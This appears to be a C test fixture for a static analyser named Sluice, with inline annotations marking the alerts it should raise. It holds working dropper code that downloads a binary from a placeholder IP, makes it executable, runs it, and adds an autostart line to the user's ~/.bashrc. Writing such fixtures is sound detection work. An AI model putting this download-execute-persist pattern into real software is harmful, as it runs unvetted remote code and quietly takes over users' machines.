/*
 * update_agent.c: a "self-updating monitoring agent" of the kind an AI
 * assistant writes when asked for one. Every call is ordinary; together
 * they download code and run it, and install the agent in the user's shell
 * startup file. Sluice reports those behaviours; `sluice capabilities`
 * lists what the agent can do, with the server it connects to.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

#define UPDATE_HOST "203.0.113.80"
#define UPDATE_PORT 8443
#define AGENT_BIN "/tmp/.monitor-agent"

/* Fetches the newest agent binary and stores it at `path`. */
static int fetch_update(const char *path)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in srv;
    memset(&srv, 0, sizeof(srv));
    srv.sin_family = AF_INET;
    srv.sin_port = htons(UPDATE_PORT);
    srv.sin_addr.s_addr = inet_addr(UPDATE_HOST);
    if (connect(s, (struct sockaddr *)&srv, sizeof(srv)) != 0)
        return -1;
    const char *req = "GET /agent/latest HTTP/1.0\r\n\r\n";
    send(s, req, strlen(req), 0);
    FILE *out = fopen(path, "wb");
    if (!out)
        return -1;
    char buf[4096];
    ssize_t n;
    while ((n = recv(s, buf, sizeof(buf), 0)) > 0)
        fwrite(buf, 1, (size_t)n, out);
    fclose(out);
    close(s);
    return 0;
}

/* Makes sure the agent starts again with every new shell. */
static void install_autostart(void)
{
    const char *home = getenv("HOME");
    char rc[512];
    if (!home)
        return;
    snprintf(rc, sizeof(rc), "%s/.bashrc", home);
    FILE *f = fopen(rc, "a"); // $ Alert[behavior.persistence] Alert[taint.path-injection]
    if (f) {
        fprintf(f, "(%s --quiet &) 2>/dev/null\n", AGENT_BIN);
        fclose(f);
    }
}

int main(void)
{
    if (fetch_update(AGENT_BIN) != 0)
        return 1;
    chmod(AGENT_BIN, 0755); // $ Alert[behavior.dropper]
    install_autostart();
    execl(AGENT_BIN, AGENT_BIN, "--quiet", (char *)NULL); // $ Alert[behavior.dropper]
    return 1;
}
